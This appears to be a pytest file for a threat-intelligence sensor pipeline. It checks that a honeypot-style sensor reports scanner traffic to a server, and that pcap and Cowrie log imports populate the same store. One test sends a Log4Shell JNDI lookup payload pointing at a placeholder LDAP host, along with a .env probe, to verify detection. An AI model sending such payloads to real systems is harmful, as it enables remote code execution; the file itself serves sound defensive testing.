"""The noise pipeline end to end: a real sensor posts to a real server, which
judges the events and answers for the source address; and the offline
importers (a pcap, a Cowrie log) feed the same store."""
import json
import os
import subprocess
import time

import pytest
import requests

from conftest import ROOT, SHARED, Server
from test_sensor import Sensor, no_sensor_left_behind  # noqa: F401 (fixture)


def test_sensor_upstream_to_server_tags_the_source(trawl, keys, tmp_path):
    srv = Server(trawl)
    try:
        sensor = Sensor(trawl, tmp_path, "--upstream", srv.url, "--key", keys["analyst"],
                        "--batch-seconds", "1", "--spool", str(tmp_path / "spool"), tcp=["http"])
        # A Log4Shell-shaped request and a .env probe, as scanners send them.
        port = sensor.ports["http"]
        requests.get("http://127.0.0.1:%d/.env" % port, timeout=10,
                     headers={"User-Agent": "${jndi:ldap://198.51.100.9/a}"})
        h = {"Authorization": "Bearer " + keys["reader"]}
        deadline = time.time() + 30
        rec = None
        while time.time() < deadline:
            r = requests.get(srv.url + "/api/noise/ip/127.0.0.1", headers=h, timeout=10)
            if r.status_code == 200 and len(r.json().get("tags", [])) >= 2:
                rec = r.json()
                break
            time.sleep(0.2)
        assert rec, "the sensor's events never reached the server"
        names = {t["name"] if isinstance(t, dict) else t for t in rec["tags"]}
        assert "Log4j RCE Attempt" in names and ".env Scanner" in names, names
        assert rec["classification"] == "malicious"
        assert sensor.stop() == 0
    finally:
        srv.stop()


def test_pcap_import_feeds_the_store(trawl):
    cap = os.path.join(ROOT, "tests", "unit", "data", "sensor", "lo_curl.pcap")
    p = trawl.run("noise", "import", "--format", "pcap", cap, check=0)
    assert "events stored" in p.stdout
    rec = json.loads(trawl.run("noise", "ip", "127.0.0.1", "--json", check=0).stdout)
    assert rec["seen"] is True
    assert any("curl" in (t["name"] if isinstance(t, dict) else t) for t in rec["tags"])


def test_cowrie_import_feeds_the_store(trawl, tmp_path):
    log = tmp_path / "cowrie.json"
    ev = [
        {"eventid": "cowrie.session.connect", "src_ip": "203.0.113.77", "src_port": 50000,
         "dst_ip": "198.51.100.2", "dst_port": 22, "session": "s1", "protocol": "ssh",
         "timestamp": "2026-11-28T10:00:00.000000Z", "sensor": "honey"},
        {"eventid": "cowrie.login.failed", "src_ip": "203.0.113.77", "session": "s1",
         "username": "root", "password": "123456", "timestamp": "2026-11-28T10:00:01.000000Z",
         "sensor": "honey"},
    ]
    log.write_text("\n".join(json.dumps(e) for e in ev) + "\nnot json\n")
    p = trawl.run("noise", "import", "--format", "cowrie", str(log))
    assert p.returncode == 1 and "bad records" in p.stderr      # the bad line is named...
    rec = json.loads(trawl.run("noise", "ip", "203.0.113.77", "--json", check=0).stdout)
    assert rec["seen"] is True                                   # ...the good ones are kept
    assert rec["classification"] in ("malicious", "suspicious")
